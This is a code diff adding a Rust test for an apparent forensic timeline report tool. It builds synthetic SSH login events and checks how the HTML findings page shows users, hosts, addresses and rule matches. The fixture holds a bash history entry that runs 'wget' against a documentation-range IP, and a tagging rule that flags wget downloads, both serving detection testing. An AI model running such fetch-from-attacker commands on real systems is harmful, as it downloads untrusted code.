@@ -135,6 +135,67 @@ fn assert_only_ours(tags: &[Tag]) {
     }
 }
 
+/// The account that matters is not behind the first ten events, it is counted as it is shown, and
+/// each label of an event has its rule.
+#[test]
+fn what_matters_is_not_hidden() {
+    let mut store = NewStore::new(Compression::Zlib);
+    let login = |user: &str, address: &str| json!({"data_type": "syslog:ssh:login", "hostname": "web01", "username": user, "ip_address": address});
+    for number in 0..30_i64 {
+        let data = store.event_data(match number {
+            25 => login("deploy", "203.0.113.77"),
+            _ => login(["root", "Root"][usize::from(number > 20)], "127.0.0.1"),
+        });
+        let description = "Content Modification Time";
+        let event = store.event_row(&(number * 1_000_000 + 1), &format!("event_data.{data}"), &description);
+        store.tag(event, if number == 0 { &["ssh_login", "first_login"] } else { &["ssh_login"] });
+    }
+    let stream = store.stream(json!({
+        "path_spec": r#"{"type_indicator": "OS", "location": "/case/home/deploy/.bash_history"}"#
+    }));
+    let data = store.event_data(json!({
+        "data_type": "bash:history:entry", "command": "wget http://203.0.113.77/x",
+        "_event_data_stream_identifier": format!("event_data_stream.{stream}"),
+    }));
+    let event = store.event(40_000_000, data);
+    store.tag(event, &["download"]);
+    let store = store.finish();
+    let rules = store.beside(
+        "rules.txt",
+        "# severity: high\nssh_login\n  data_type is 'syslog:ssh:login'\n\n\
+         # severity: high\nfirst_login\n  username is 'root'\n\n# severity: high\ndownload\n  command contains 'wget'\n",
+    );
+    let page = std::fs::read_to_string(page(&store, &["--tagging-file", rules.to_str().unwrap()])).unwrap();
+    // Both events of deploy: the user of one is in its data, that of the other in the path of its
+    // file.
+    for (heading, name, events) in
+        [("user", "deploy", 2), ("user", "Root", 29), ("host", "web01", 30), ("address", "203.0.113.77", 1)]
+    {
+        let cells = format!(
+            "<td class=\"name\" data-name=\"{heading}\">{name}</td><td class=\"number\" data-name=\"events\">{events}</td>"
+        );
+        assert!(page.contains(&cells), "{cells}: {page}");
+    }
+    let words = "10 of 30 events: the first, and one of each user, host and address";
+    let finding = page.split_once("<h4>ssh_login</h4>").unwrap().1.split_once("</article>").unwrap().0;
+    assert!(finding.contains(words) && finding.contains("<dd>deploy</dd>"), "{finding}");
+    assert!(finding.contains("<dt>Addresses</dt><dd>203.0.113.77 (1)</dd>"), "{finding}");
+    for rule in [
+        "ssh_login by rules.txt:3: data_type is &#39;syslog:ssh:login&#39;",
+        "first_login by rules.txt:7: username is &#39;root&#39;",
+    ] {
+        assert!(
+            page.replace(rules.parent().unwrap().to_str().unwrap(), "").replace("by /", "by ").contains(rule),
+            "{rule}: {page}"
+        );
+    }
+    assert!(page.contains("<dt>Times</dt><dd>UTC</dd>") && page.contains(" UTC. 31 events"), "{page}");
+    assert!(page.contains("<span>logged</span>") && !page.contains("Content Modification Time"), "{page}");
+    let story = page.split_once("<section id=\"story\">").unwrap().1.split_once("</section>").unwrap().0;
+    assert!(story.rsplit_once("<tr>").unwrap().1.contains("wget"), "{story}");
+    assert!(!page.contains("foreman rules"), "{page}");
+}
+
 #[test]
 fn has_what_the_report_has() {
     for name in ["sample", "sample-20230327"] {
@@ -233,10 +294,9 @@ fn shows_the_events_of_its_findings() {
         assert_eq!(shown, records.min(30), "{name}");
         // Each event is shown here, or there is a link to where it is shown.
         let elsewhere = finding.matches("class=\"elsewhere\"").count();
-        assert_eq!(
-            finding.matches("<dt>rule</dt><dd>linux:").count() + elsewhere,
-            finding.matches("<li>").count()
-        );
+        let with_rule =
+            finding.split("<li>").filter(|event| event.contains(&format!("<dd>{name} by linux:")));
+        assert_eq!(with_rule.count() + elsewhere, finding.matches("<li>").count(), "{name}");
     }
     assert!(html.contains("class=\"elsewhere\""), "no event has two labels");
     assert!(html.contains("<dt>host</dt><dd>web01</dd>"), "no host");
